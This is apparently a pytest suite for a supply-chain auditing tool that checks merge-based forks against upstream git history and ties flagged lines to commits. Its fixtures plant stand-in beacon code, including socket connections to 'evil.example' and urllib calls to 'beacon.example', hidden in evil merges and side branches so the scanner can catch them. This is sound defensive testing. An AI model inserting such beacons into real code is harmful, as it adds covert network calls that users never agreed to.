"""Merge-based forks: a branch that merges upstream tags, proven by ancestry and its head's tree
(``[patches] model = "merge"``), scanned by the net diff, every line tied to its commit."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from support import GitRepo, write_spec

FORK = "Fork Author <fork@community.example>"


def _fork(tmp_path: Path, *, evil_merge: bool = False, side_branch: bool = False) -> dict[str, Any]:
    """upstream v1.0 -> v1.1 (an upstream fix); the fork branches from v1.0, adds its own commit,
    merges tag v1.1 (optionally adding a line no parent has), then adds another commit."""
    repo = GitRepo(tmp_path / "engine")
    repo.commit("initial", files={
        "engine/__init__.py": "VERSION = '1.0'\n",
        "engine/server.py": "def serve(host='127.0.0.1'):\n    return host\n",
        "engine/util.py": "def helper():\n    return 1\n",
    })
    repo.tag("v1.0")
    repo.commit("upstream fix", files={"engine/util.py": "def helper():\n    return 2\n"})
    repo.tag("v1.1")
    repo.checkout("fork", new=True, start="v1.0")
    a = repo.commit("fork: a kernel option", files={
        "engine/kernels.py": "def fast_path(x):\n    return x * 2\n"}, author=FORK)
    hidden = None
    if side_branch:
        repo.checkout("side", new=True)
        hidden = repo.commit("side: tweak", files={
            "engine/side.py": "import socket\nsocket.create_connection(('evil.example', 80))\n"},
            author=FORK)
        repo.checkout("fork")
        repo.git("merge", "--no-ff", "-q", "-m", "Merge branch 'side' into fork", "side")
    repo.git("merge", "--no-ff", "--no-commit", "-q", "v1.1")
    if evil_merge:
        repo.write("engine/util.py", "import urllib.request\n\n\ndef helper():\n"
                   "    urllib.request.urlopen('https://beacon.example/ping')\n    return 2\n")
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", "Merge tag 'v1.1' into fork",
             env={"GIT_AUTHOR_NAME": "Fork Author", "GIT_AUTHOR_EMAIL": "fork@community.example"})
    merge = repo.head()
    b = repo.commit("fork: docs", files={"engine/README.md": "fork notes\n"}, author=FORK)
    series = repo.git("rev-list", "--reverse", "--topo-order", "v1.1..fork").split()
    archive = repo.archive(tmp_path / "fork.tar.gz", "fork", prefix="engine-fork/")
    spec = {
        "engine": {"profile": "generic", "version": "1.1"},
        "upstream": {"repo": str(repo.path), "ref": "v1.1", "commit": repo.head("v1.1")},
        "patches": {"ref": "fork", "model": "merge", "commits": series},
        "bundle": {"path": str(archive), "strip_components": 1},
        "scan": {"scope": "diff"},
    }
    return {"repo": repo, "spec": spec, "series": series, "a": a, "b": b, "merge": merge,
            "hidden": hidden, "tmp": tmp_path}


def _run(case: dict[str, Any], *args: str, spec: dict[str, Any] | None = None
         ) -> tuple[int, dict[str, Any] | None, str]:
    path = write_spec(case["tmp"] / "audit.toml", spec or case["spec"])
    res = subprocess.run([sys.executable, "-m", "auditor", *args, str(path), "--json"],
                         capture_output=True, text=True, timeout=600)
    try:
        data = json.loads(res.stdout)
    except json.JSONDecodeError:
        data = None
    return res.returncode, data, res.stderr


def test_a_merge_based_fork_is_proven_by_ancestry_and_the_heads_tree(tmp_path):
    case = _fork(tmp_path)
    code, data, err = _run(case, "verify")
    assert data is not None, err
    assert data["ok"] is True and code == 0, data["reasons"]
    assert data["series"]["model"] == "merge" and data["compared_with"] == "head"
    assert data["series"]["merges"] == [case["merge"]]
    assert data["bundle_tree"] == data["head"]["tree"]
    res = subprocess.run([sys.executable, "-m", "auditor", "audit",
                          str(case["tmp"] / "audit.toml"), "--out", str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=600)
    report = (tmp_path / "out" / "report.md").read_text()
    statement = (f"proof holds: bundle tree {data['bundle_tree'][:10]} = head {case['b'][:10]} "
                 f"of fork, which contains upstream v1.1 (commit {data['upstream']['commit'][:10]}"
                 ") and 3 listed commit(s) (1 merge)")
    assert statement in report.replace("\\", "") and statement in res.stderr


def test_the_rebase_model_on_such_a_fork_names_the_merge_model(tmp_path):
    case = _fork(tmp_path)
    spec = {**case["spec"], "patches": {**case["spec"]["patches"], "model": "rebase"}}
    code, data, _ = _run(case, "verify", spec=spec)
    assert code == 1 and data is not None
    assert any('model = "merge"' in r for r in data["reasons"])


def test_commits_range_records_the_list_it_derived(tmp_path):
    case = _fork(tmp_path)
    spec = {**case["spec"], "patches": {"ref": "fork", "model": "merge", "commits": "range"}}
    code, data, _ = _run(case, "verify", spec=spec)
    assert code == 0 and data is not None, data
    assert data["series"]["derived"] is True
    assert data["series"]["listed"] == case["series"]


def test_a_hidden_commit_inside_a_merged_side_branch_fails_naming_it(tmp_path):
    case = _fork(tmp_path, side_branch=True)
    listed = [c for c in case["series"] if c != case["hidden"]]
    spec = {**case["spec"], "patches": {**case["spec"]["patches"], "commits": listed}}
    code, data, _ = _run(case, "verify", spec=spec)
    assert code == 1 and data is not None and data["ok"] is False
    assert data["series"]["unlisted"] == [case["hidden"]]
    assert any(case["hidden"][:12] in r and "hidden" in r for r in data["reasons"])


def test_reordered_listed_commits_fail(tmp_path):
    case = _fork(tmp_path)
    listed = [case["series"][1], case["series"][0], *case["series"][2:]]
    spec = {**case["spec"], "patches": {**case["spec"]["patches"], "commits": listed}}
    code, data, _ = _run(case, "verify", spec=spec)
    assert code == 1 and data is not None
    assert "the listed order differs from the branch's order" in data["reasons"]


def test_a_bundle_that_differs_from_the_head_by_one_file_fails(tmp_path):
    case = _fork(tmp_path)
    other = case["repo"].archive(tmp_path / "other.tar", "fork~1", prefix="e/")
    spec = {**case["spec"], "bundle": {"path": str(other), "strip_components": 1}}
    code, data, _ = _run(case, "verify", spec=spec)
    assert code == 1 and data is not None and data["ok"] is False
    assert [d["path"] for d in data["differences"]] == ["engine/README.md"]
    assert any("differs from the head of fork" in r for r in data["reasons"])


def test_a_pinned_upstream_that_is_not_an_ancestor_fails(tmp_path):
    case = _fork(tmp_path)
    repo: GitRepo = case["repo"]
    repo.checkout("elsewhere", new=True, start="v1.0")
    other = repo.commit("unrelated upstream line", files={"engine/x.py": "x = 1\n"})
    spec = {**case["spec"], "upstream": {"repo": str(repo.path), "ref": "elsewhere",
                                         "commit": other}}
    code, data, _ = _run(case, "verify", spec=spec)
    assert code == 1 and data is not None
    assert any("not an ancestor" in r for r in data["reasons"])


def test_an_evil_merge_is_scanned_and_tied_to_the_merge(tmp_path):
    case = _fork(tmp_path, evil_merge=True)
    code, data, err = _run(case, "scan")
    assert data is not None, err
    beacon = [f for f in data["findings"] if f["path"] == "engine/util.py"
              and f["category"] == "network"]
    assert beacon, data["findings"]
    assert all(f["commit"] == case["merge"] for f in beacon)
    # the upstream fix that arrived through the merge is upstream's, not the fork's
    assert not [f for f in data["findings"] if f["path"] == "engine/util.py"
                and f["commit"] not in (case["merge"],)]


@pytest.mark.parametrize("model", ["rebase", "merge"])
def test_the_series_command_writes_the_commits_file(tmp_path, model):
    case = _fork(tmp_path)
    spec_path = write_spec(tmp_path / "audit.toml", case["spec"])
    out = tmp_path / f"series-{model}.txt"
    res = subprocess.run([sys.executable, "-m", "auditor", "series", str(spec_path), "--range",
                          "v1.1..fork", "--model", model, "-o", str(out)],
                         capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    rows = [ln.split(" ", 1) for ln in out.read_text().splitlines() if not ln.startswith("#")]
    shas = [r[0] for r in rows]
    if model == "merge":
        assert shas == case["series"]
    else:
        assert case["merge"] not in shas and len(shas) == 2
    subjects = dict(rows)
    assert subjects[case["a"]] == "fork: a kernel option"
    # the file is what the spec reads: the proof holds with it
    spec = {**case["spec"], "patches": {"ref": "fork", "model": "merge",
                                        "commits_file": str(out)}}
    if model == "merge":
        code, data, _ = _run(case, "verify", spec=spec)
        assert code == 0 and data is not None and data["ok"] is True


def test_the_series_command_takes_its_range_and_model_from_the_spec(tmp_path):
    """With no --range and no --model: upstream's pinned commit..the patches ref, the spec's model
    (the form a user with the spec in hand reaches for first)."""
    case = _fork(tmp_path)
    spec_path = write_spec(tmp_path / "audit.toml", case["spec"])
    res = subprocess.run([sys.executable, "-m", "auditor", "series", str(spec_path)],
                         capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    head, *rows = res.stdout.splitlines()
    assert "--model merge" in head and "..fork" in head
    assert [r.split(" ", 1)[0] for r in rows] == case["series"]


def test_a_bad_model_and_a_bad_range_are_exit_2(tmp_path):
    case = _fork(tmp_path)
    spec = {**case["spec"], "patches": {**case["spec"]["patches"], "model": "squash"}}
    code, _, err = _run(case, "verify", spec=spec)
    assert code == 2 and "[patches.model]" in err
    spec_path = write_spec(tmp_path / "ok.toml", case["spec"])
    for rng in ("nope..fork", "v1.1", "v1.1..--help"):
        res = subprocess.run([sys.executable, "-m", "auditor", "series", str(spec_path),
                              "--range", rng], capture_output=True, text=True, timeout=120)
        assert res.returncode == 2, (rng, res.stderr)
        assert "Traceback" not in res.stderr


def test_upstream_commits_merged_in_from_another_release_line_are_upstreams(tmp_path):
    """The fork merges upstream's backport line v1.0.1 as well as v1.1: with ``[upstream] also``
    naming it, its commit is no community commit and its lines are upstream's."""
    repo = GitRepo(tmp_path / "engine")
    repo.commit("initial", files={"engine/__init__.py": "VERSION = '1.0'\n"})
    repo.tag("v1.0")
    repo.commit("upstream 1.1", files={"engine/__init__.py": "VERSION = '1.1'\n"})
    repo.tag("v1.1")
    repo.checkout("release-1.0", new=True, start="v1.0")
    backport = repo.commit("backport: usage stats", files={
        "engine/usage.py": "import urllib.request\n\n\ndef report():\n"
                           "    urllib.request.urlopen('https://stats.upstream.example/v1')\n"})
    repo.tag("v1.0.1")
    repo.checkout("fork", new=True, start="v1.0")
    own = repo.commit("fork: option", files={"engine/opt.py": "FAST = True\n"}, author=FORK)
    for tag in ("v1.0.1", "v1.1"):
        repo.git("merge", "--no-ff", "-q", "-m", f"Merge tag '{tag}' into fork", tag)
    archive = repo.archive(tmp_path / "fork.tar", "fork", prefix="f/")
    spec: dict[str, Any] = {
        "engine": {"profile": "generic", "version": "1.1"},
        "upstream": {"repo": str(repo.path), "ref": "v1.1", "also": ["v1.0.1"]},
        "patches": {"ref": "fork", "model": "merge", "commits": "range"},
        "bundle": {"path": str(archive), "strip_components": 1},
        "scan": {"scope": "diff"},
    }
    case = {"tmp": tmp_path, "spec": spec}
    code, data, err = _run(case, "verify")
    assert data is not None and data["ok"] is True, (err, data and data["reasons"])
    assert backport not in data["series"]["listed"] and own in data["series"]["listed"]
    # the commit `also` reaches is said apart: counted in audit.json and in the proof's sentence
    assert data["series"]["upstream_also_total"] == 1
    assert data["series"]["upstream_also"] == ["v1.0.1"]
    spec_path = write_spec(tmp_path / "audit.toml", spec)
    res = subprocess.run([sys.executable, "-m", "auditor", "audit", str(spec_path), "--out",
                          str(tmp_path / "out")], capture_output=True, text=True, timeout=600)
    assert res.returncode in (0, 1), res.stderr  # a verdict, not a crash
    report = (tmp_path / "out" / "report.md").read_text().replace("\\", "")
    assert "besides 1 upstream commit(s) that [upstream] also (v1.0.1) reaches" in report, report
    code, data, err = _run(case, "scan")
    assert data is not None, err
    assert not [f for f in data["findings"] if f["path"] == "engine/usage.py"]
    # without `also`, the backport is one of the fork's commits, and so are its lines
    spec["upstream"] = {"repo": str(repo.path), "ref": "v1.1"}
    code, data, err = _run(case, "verify")
    assert data is not None and backport in data["series"]["listed"]
    code, data, err = _run(case, "scan")
    assert data is not None, err
    usage = [f for f in data["findings"] if f["path"] == "engine/usage.py"]
    assert usage and all(f["commit"] == backport for f in usage)
    # an `also` ref that does not resolve is a failed proof naming it
    spec["upstream"] = {"repo": str(repo.path), "ref": "v1.1", "also": ["v9.9"]}
    code, data, err = _run(case, "verify")
    assert code == 1 and data is not None
    assert any("[upstream] also: v9.9 does not resolve" in r for r in data["reasons"])


def _plan(case: dict[str, Any]) -> dict[str, Any]:
    spec_path = write_spec(case["tmp"] / "audit.toml", case["spec"])
    res = subprocess.run([sys.executable, "-m", "auditor", "review", "plan", str(spec_path),
                          "--reviewers", "1", "--no-scan", "--json",
                          "--out", str(case["tmp"] / "packets")],
                         capture_output=True, text=True, timeout=300, cwd=case["tmp"])
    assert res.returncode == 0, res.stderr
    return json.loads(res.stdout)


def test_review_hunks_of_a_merge_are_its_own_lines_only(tmp_path):
    clean = _fork(tmp_path / "clean")
    plan = _plan(clean)
    hunks = [h for r in plan["reviewers"] for h in r["hunks"]]
    assert plan["warnings"] == []
    assert {h["commit"] for h in hunks} == {clean["a"], clean["b"]}  # the clean merge adds none
    evil = _fork(tmp_path / "evil", evil_merge=True)
    hunks = [h for r in _plan(evil)["reviewers"] for h in r["hunks"]]
    merged = [h for h in hunks if h["commit"] == evil["merge"]]
    assert [h["path"] for h in merged] == ["engine/util.py"]
    # the lines the merge added by hand (the import and the beacon), not upstream's fix
    assert merged[0]["lines"] == 4


def test_an_upstream_commit_cherry_picked_into_the_fork_is_upstreams(tmp_path):
    """upstream's main has a fix after the tag; the fork cherry-picks it (same patch-id, another
    sha): recorded as upstream's, and its lines are not the fork's."""
    repo = GitRepo(tmp_path / "engine")
    repo.commit("initial", files={"engine/__init__.py": "VERSION = '1.0'\n"})
    repo.tag("v1.0")
    fix = repo.commit("telemetry endpoint fix", files={
        "engine/usage.py": "import urllib.request\n\n\ndef report():\n"
                           "    urllib.request.urlopen('https://stats.upstream.example/v2')\n"})
    # upstream's own mirror: the tag and main with the fix past it
    mirror = tmp_path / "upstream.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(repo.path), str(mirror)], check=True)
    repo.checkout("fork", new=True, start="v1.0")
    own = repo.commit("fork: option", files={"engine/opt.py": "FAST = True\n"}, author=FORK)
    repo.clock += 3600
    repo.git("cherry-pick", fix, env={"GIT_COMMITTER_DATE": f"@{repo.clock} +0000"})
    picked = repo.head()
    assert picked != fix
    archive = repo.archive(tmp_path / "fork.tar", "fork", prefix="f/")
    spec: dict[str, Any] = {
        "engine": {"profile": "generic", "version": "1.0"},
        "upstream": {"repo": str(mirror), "ref": "v1.0"},
        "patches": {"repo": str(repo.path), "ref": "fork", "commits": [own, picked]},
        "bundle": {"path": str(archive), "strip_components": 1},
        "scan": {"scope": "diff"},
    }
    case = {"tmp": tmp_path, "spec": spec}
    code, data, err = _run(case, "verify")
    assert data is not None and data["ok"] is True, err
    assert data["series"]["upstream_picks"] == {picked: fix}
    code, data, err = _run(case, "scan")
    assert data is not None, err
    assert not [f for f in data["findings"] if f["path"] == "engine/usage.py"]
    res = subprocess.run([sys.executable, "-m", "auditor", "audit",
                          str(write_spec(tmp_path / "audit.toml", spec)), "--out",
                          str(tmp_path / "out")], capture_output=True, text=True, timeout=600)
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<h3>Upstream's commits applied again</h3>" in page, res.stderr[-2000:]
    assert f"<code>{picked[:10]}</code> = upstream <code>{fix[:10]}</code>" in page
    # nor are they hunks to review (packets, coverage)
    plan = _plan(case)
    assert "engine/usage.py" not in json.dumps(plan) and "engine/opt.py" in json.dumps(plan)
    # one repository for both: its branches and tags may be the fork's own: only `also` counts
    same = {**spec, "upstream": {"repo": str(repo.path), "ref": "v1.0"},
            "patches": {"ref": "fork", "commits": [own, picked]}}
    code, data, err = _run(case, "verify", spec=same)
    assert data is not None and data["series"]["upstream_picks"] == {}
    # the same change with one line more is the fork's own: scanned and tied to its commit
    repo.checkout("fork2", new=True, start=own)
    repo.write("engine/usage.py", "import urllib.request\n\n\ndef report():\n"
               "    urllib.request.urlopen('https://stats.upstream.example/v2')\n"
               "    urllib.request.urlopen('https://beacon.example/x')\n")
    changed = repo.commit("telemetry endpoint fix", author=FORK)
    spec["patches"] = {"repo": str(repo.path), "ref": "fork2", "commits": [own, changed]}
    spec["bundle"] = {"path": str(repo.archive(tmp_path / "fork2.tar", "fork2", prefix="f/")),
                      "strip_components": 1}
    code, data, err = _run(case, "verify")
    assert data is not None and data["series"]["upstream_picks"] == {}
    code, data, err = _run(case, "scan")
    assert data is not None
    assert [f for f in data["findings"] if f["path"] == "engine/usage.py"
            and f["commit"] == changed]


def test_in_one_repository_a_forks_own_tags_are_not_upstream(tmp_path):
    """A real fork tags its own releases in the repository that also holds upstream: a commit
    picked from one of the fork's release lines into another is the fork's, not upstream's."""
    repo = GitRepo(tmp_path / "engine")
    repo.commit("initial", files={"engine/__init__.py": "VERSION = '1.0'\n"})
    repo.tag("v1.0")
    repo.checkout("fork-a", new=True, start="v1.0")
    first = repo.commit("fork: beacon", files={
        "engine/b.py": "import socket\nsocket.create_connection(('evil.example', 80))\n"},
        author=FORK)
    repo.tag("fork-release-1")
    repo.checkout("fork-b", new=True, start="v1.0")
    repo.clock += 3600
    repo.git("cherry-pick", first, env={"GIT_COMMITTER_DATE": f"@{repo.clock} +0000"})
    again = repo.head()
    archive = repo.archive(tmp_path / "b.tar", "fork-b", prefix="f/")
    spec: dict[str, Any] = {
        "engine": {"profile": "generic", "version": "1.0"},
        "upstream": {"repo": str(repo.path), "ref": "v1.0"},
        "patches": {"ref": "fork-b", "commits": [again]},
        "bundle": {"path": str(archive), "strip_components": 1},
        "scan": {"scope": "diff"},
    }
    case = {"tmp": tmp_path, "spec": spec}
    code, data, err = _run(case, "verify")
    assert data is not None and data["series"]["upstream_picks"] == {}, err
    code, data, err = _run(case, "scan")
    assert data is not None
    assert [f for f in data["findings"] if f["path"] == "engine/b.py" and f["commit"] == again]
    # named as upstream's with `also`, it is upstream's: the reviewer said so
    spec["upstream"]["also"] = ["fork-release-1"]
    code, data, err = _run(case, "verify")
    assert data is not None and data["series"]["upstream_picks"] == {again: first}


def test_merges_with_lines_of_their_own_are_listed_as_changed_while_merging(tmp_path):
    clean = _fork(tmp_path / "clean")
    code, data, _ = _run(clean, "verify")
    assert data is not None and data["series"]["merge_changes"] == {}
    evil = _fork(tmp_path / "evil", evil_merge=True)
    code, data, _ = _run(evil, "verify")
    assert data is not None and data["ok"] is True
    assert data["series"]["merge_changes"] == {evil["merge"]: ["engine/util.py"]}
    res = subprocess.run([sys.executable, "-m", "auditor", "audit",
                          str(evil["tmp"] / "audit.toml"), "--out", str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=600)
    report = (tmp_path / "out" / "report.md").read_text()
    assert "Changed while merging" in report and evil["merge"][:12] in report, res.stderr[-2000:]
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<h3>Changed while merging</h3>" in page and evil["merge"][:12] in page
    assert "proof model</th><td>merge" in page and "series replayed" not in page
    assert "which contains upstream v1.1" in page


def test_a_merges_diff_stats_are_its_own_lines(tmp_path):
    """`git log --numstat` gives a merge no diff: its stats (the report's diff column) are its
    diff against git's own merge of its parents, the lines it is scanned and reviewed for."""
    def stats(case: dict[str, Any]) -> dict[str, Any]:
        code, data, err = _run(case, "verify")
        assert data is not None and data["ok"] is True, err
        return {c["sha"]: c["stats"] for c in data["commits"]}

    clean = _fork(tmp_path / "clean")
    assert stats(clean)[clean["merge"]] == {"files": 0, "insertions": 0, "deletions": 0}
    evil = _fork(tmp_path / "evil", evil_merge=True)
    got = stats(evil)
    assert got[evil["merge"]] == {"files": 1, "insertions": 4, "deletions": 0}
    assert got[evil["a"]] == {"files": 1, "insertions": 2, "deletions": 0}


def test_upstream_commits_the_upstream_mirror_reaches_are_upstreams_without_naming(tmp_path):
    """The fork (its own repository) merges upstream's main past the pinned tag, and a backport
    line: with a separate upstream mirror, what its branches and tags reach is upstream's without
    an ``also`` ref — not listed, not the fork's lines, counted in the statement; the commits file
    ``auditor series`` writes and the review plan read the range the same way."""
    up = GitRepo(tmp_path / "upstream")
    up.commit("initial", files={"engine/__init__.py": "VERSION = '1.0'\n"})
    up.tag("v1.0")
    up.commit("upstream: usage stats", files={
        "engine/usage.py": "import urllib.request\n\n\ndef report():\n"
                           "    urllib.request.urlopen('https://stats.upstream.example/v1')\n"})
    up.commit("upstream: more stats", files={"engine/more.py": "STATS = 2\n"})
    fork = GitRepo(tmp_path / "fork")
    fork.git("fetch", "-q", str(up.path), "main:refs/remotes/up/main", "tag", "v1.0")
    fork.git("checkout", "-q", "-b", "fork", "v1.0")
    own = fork.commit("fork: option", files={"engine/opt.py": "FAST = True\n"}, author=FORK)
    fork.git("merge", "--no-ff", "-q", "-m", "Merge upstream main into fork", "up/main")
    merge = fork.head()
    archive = fork.archive(tmp_path / "fork.tar", "fork", prefix="f/")
    spec: dict[str, Any] = {
        "engine": {"profile": "generic", "version": "1.0"},
        "upstream": {"repo": str(up.path), "ref": "v1.0"},
        "patches": {"repo": str(fork.path), "ref": "fork", "model": "merge",
                    "commits_file": str(tmp_path / "series.txt")},
        "bundle": {"path": str(archive), "strip_components": 1},
        "scan": {"scope": "diff"},
    }
    spec_path = write_spec(tmp_path / "audit.toml", spec)
    res = subprocess.run([sys.executable, "-m", "auditor", "series", str(spec_path), "--range",
                          "v1.0..fork", "--model", "merge", "-o", str(tmp_path / "series.txt")],
                         capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    listed = [ln.split()[0] for ln in (tmp_path / "series.txt").read_text().splitlines()
              if ln and not ln.startswith("#")]
    assert listed == [own, merge]
    case = {"tmp": tmp_path, "spec": spec}
    code, data, err = _run(case, "verify")
    assert data is not None and data["ok"] is True and code == 0, (err, data and data["reasons"])
    assert data["series"]["upstream_merged_total"] == 2
    assert data["series"]["upstream_merged"] == [up.head()]
    subprocess.run([sys.executable, "-m", "auditor", "audit", str(spec_path), "--out",
                    str(tmp_path / "out")], capture_output=True, text=True, timeout=600)
    report = (tmp_path / "out" / "report.md").read_text().replace("\\", "")
    assert "besides 2 upstream commit(s) that upstream's other branches or tags reach" in report
    code, data, err = _run(case, "scan")
    assert data is not None, err
    assert not [f for f in data["findings"] if f["path"] == "engine/usage.py"]
    res = subprocess.run([sys.executable, "-m", "auditor", "review", "plan", str(spec_path),
                          "--reviewers", "1", "--no-scan", "--json",
                          "--out", str(tmp_path / "packets")],
                         capture_output=True, text=True, timeout=300, cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    assert "engine/usage.py" not in res.stdout and "engine/opt.py" in res.stdout
